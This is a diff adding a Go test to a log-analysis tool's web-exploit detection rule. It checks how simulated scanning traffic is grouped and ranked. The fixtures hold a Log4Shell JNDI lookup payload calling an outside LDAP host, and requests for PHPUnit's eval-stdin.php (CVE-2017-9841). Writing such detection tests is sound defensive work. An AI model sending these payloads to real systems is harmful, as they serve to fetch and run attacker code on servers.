@@ -1,9 +1,13 @@
 package builtin
 
 import (
+	"fmt"
 	"testing"
 
+	"deadbox/rules"
 	"deadbox/timeline"
+
+	"github.com/google/go-cmp/cmp"
 )
 
 // cleanURLs are targets as honest software makes them: full of signs that
@@ -188,6 +192,32 @@ func TestResolveLookups(t *testing.T) {
 		if got := resolveLookups(in); got != want {
 			t.Errorf("resolveLookups(%q) = %q, want %q", in, got, want)
 		}
+	}
+}
+
+// TestCrowds checks that the noise of the Internet makes few findings, and
+// that what stands out of it keeps its own.
+func TestCrowds(t *testing.T) {
+	var records []timeline.Record
+	for i := range 500 {
+		r := aRequest(fmt.Sprintf("192.0.2.%d", i%250), "GET", "/", 200, "user_agent", "${jndi:ldap://198.51.100.7/a}")
+		r.Evidence.Line = i + 1
+		records = append(records, r, aRequest(fmt.Sprintf("203.0.113.%d", i%200), "GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404))
+	}
+	records = append(records, aRequest("198.51.100.9", "GET", "/x.action", 200, "user_agent", "${jndi:ldap://198.51.100.7/a}"),
+		aRequest("198.51.100.9", "GET", "/", 404, "user_agent", "${jndi:ldap://198.51.100.7/a}"))
+	fs := run([]*rules.Rule{webExploitRequest}, rules.Env{}, records)
+	var got []string
+	for _, f := range fs {
+		got = append(got, fmt.Sprintf("%s %s %d: %s", f.Severity, f.Address, f.Count, f.Summary))
+	}
+	want := []string{
+		"high 198.51.100.9 1: 198.51.100.9 sent 1 request with injection of an expression, answered 200 (and 1 more that were refused); the first of the gravest: GET /x.action, the user agent ${jndi:ldap://198.51.100.7/a}",
+		"medium  500: 500 requests with injection of an expression from 250 addresses, answered 200 (500); the first of the gravest: GET /, the user agent ${jndi:ldap://198.51.100.7/a}",
+		"low  500: 500 requests with exploit of a known hole from 200 addresses, all refused; the first: GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php, the path /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php, PHPUnit's eval-stdin.php runs the PHP it is sent (CVE-2017-9841)",
+	}
+	if d := cmp.Diff(want, got); d != "" {
+		t.Errorf("findings (-want +got):\n%s", d)
 	}
 }
 
